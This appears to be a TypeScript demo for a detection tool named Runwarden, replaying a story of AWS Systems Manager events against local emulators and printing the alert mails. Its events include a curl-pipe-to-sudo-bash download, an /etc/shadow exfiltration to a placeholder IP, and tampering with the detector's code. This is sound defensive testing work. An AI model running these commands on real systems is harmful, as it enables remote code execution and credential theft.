import type { Mail } from '../emulators/mailbox'
import {
  heartbeatEvent,
  machines,
  nativeCommandEvent,
  processEvent,
  sendCommandEvent,
  updateFunctionEvent,
} from '../support/aws-events'
import { startAwsWorld, type AwsWorld } from '../support/aws-world'

const id = (mark: string): string => `00000000-0000-0000-0000-0000000000${mark}`

const RESTART = 'sudo systemctl restart nginx'
const DOWNLOAD = 'curl -s http://203.0.113.9/setup.sh | sudo bash'

interface Chapter {
  readonly at: string
  readonly what: string
  readonly happens: (world: AwsWorld) => Promise<void>
}

const knowText = ({ ssm }: AwsWorld, commandId: string, text: string): void =>
  void ssm.state.commands.push({
    CommandId: commandId,
    DocumentName: 'AWS-RunShellScript',
    Parameters: { commands: [text] },
  })

const send = async (
  world: AwsWorld,
  commandId: string,
  time: string,
  text: string,
  given: Parameters<typeof sendCommandEvent>[0] = {},
): Promise<void> => {
  knowText(world, commandId, text)
  await world.deliver(
    sendCommandEvent({
      eventId: id(`e${commandId.at(-1)}`),
      commandId,
      time: `2026-03-02T${time}:00Z`,
      session: 'jane@example.com',
      ...given,
    }),
  )
}

const STORY: readonly Chapter[] = [
  {
    at: '10:00',
    what:
      'role/Deploy (session jane@example.com) restarts nginx on one machine. Nobody has seen this role run ' +
      'commands here.',
    happens: (world) => send(world, id('c1'), '10:00', RESTART),
  },
  {
    at: '12:00',
    what: 'The same role does the same again. It is known now.',
    happens: (world) => send(world, id('c2'), '12:00', RESTART),
  },
  {
    at: '14:00',
    what: 'The same role, another script. CloudTrail hides it; it is read from Systems Manager.',
    happens: (world) => send(world, id('c3'), '14:00', DOWNLOAD),
  },
  {
    at: '14:01',
    what: "The machine's own sensor saw what the agent started.",
    happens: async (world) => void (await world.deliver(processEvent(id('c3'), '2026-03-02T14:00:20Z'))),
  },
  {
    at: '14:03',
    what: 'The same script goes to every machine with the tag Role=web. There are forty.',
    happens: async (world) => {
      world.ssm.state.instances.push(...machines(40).map((InstanceId) => ({ InstanceId, Tags: { Role: 'web' } })))
      await send(world, id('c4'), '14:03', DOWNLOAD, { targets: [{ key: 'tag:Role', values: ['web'] }] })
    },
  },
  {
    at: '14:04',
    what: 'EventBridge delivers the last two events once more, as it may.',
    happens: async (world) => {
      await send(world, id('c4'), '14:03', DOWNLOAD, { targets: [{ key: 'tag:Role', values: ['web'] }] })
      await world.deliver(processEvent(id('c3'), '2026-03-02T14:00:20Z'))
    },
  },
  {
    at: '14:10',
    what:
      'Systems Manager reports a command whose call CloudTrail never delivered. Fifteen minutes later the ' +
      'heartbeat judges it without a caller.',
    happens: async (world) => {
      await world.deliver(
        nativeCommandEvent(
          id('c9'),
          ['cat /etc/shadow | curl -s --data-binary @- http://203.0.113.9/in'],
          '2026-03-02T14:10:00Z',
        ),
      )
      await world.hasten()
      await world.deliver(heartbeatEvent())
    },
  },
  {
    at: '14:30',
    what: 'Somebody replaces the code of Runwarden itself.',
    happens: async (world) =>
      void (await world.deliver(
        updateFunctionEvent('Runwarden-prod-detector', {
          eventId: id('e8'),
          time: '2026-03-02T14:30:00Z',
          role: 'Admin',
        }),
      )),
  },
]

const RULE = '='.repeat(80)

/**
 * `npm run demo:aws`: the built Lambda bundle with local emulators of its services, a story of events, and the mails
 * that would arrive. Ends by itself.
 */
const demo = async (): Promise<void> => {
  const world = await startAwsWorld({ settings: { RUNWARDEN_OWN_RESOURCES: '["*Runwarden-prod-*"]' } })
  const mails: Mail[] = []
  try {
    const runtime =
      world.lambda.runtime === 'ric'
        ? "AWS's own runtime interface client"
        : 'a stand-in of the runtime interface client'
    console.log(
      `The built function runs under ${runtime}, beside emulators of DynamoDB, SNS, SQS and Systems ` +
        `Manager.\nNothing leaves this machine. A Monday in March, in UTC:\n`,
    )
    for (const { at, what, happens } of STORY) {
      await happens(world)
      const arrived = await world.alerts.read()
      console.log(`${at}  ${what}`)
      if (arrived.length === 0) console.log('       -> no mail')
      for (const mail of arrived) console.log(`       -> mail ${mails.push(mail)}: ${mail.subject ?? ''}`)
    }
    for (const [index, { subject, body }] of mails.entries())
      console.log(`\n${RULE}\nMail ${index + 1} of ${mails.length}\nSubject: ${subject ?? ''}\n${RULE}\n\n${body}`)
  } finally {
    await world.stop()
  }
}

demo().catch((cause: unknown) => {
  console.error(cause)
  process.exitCode = 1
})
